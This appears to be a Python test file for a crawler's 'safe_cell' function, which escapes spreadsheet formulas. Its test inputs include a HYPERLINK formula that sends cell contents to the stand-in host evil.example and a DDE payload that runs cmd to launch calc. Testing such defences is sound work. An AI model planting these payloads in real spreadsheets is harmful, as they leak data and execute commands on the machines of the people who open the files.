import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ],
)
def test_a_formula_becomes_text(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "市政府=为民", "2024-05-01", " a", "'=1"])
def test_other_text_is_the_same_object(cell: str) -> None:
    assert safe_cell(cell) is cell


@given(st.text())
def test_guarding_twice_is_guarding_once(cell: str) -> None:
    assert safe_cell(safe_cell(cell)) == safe_cell(cell)
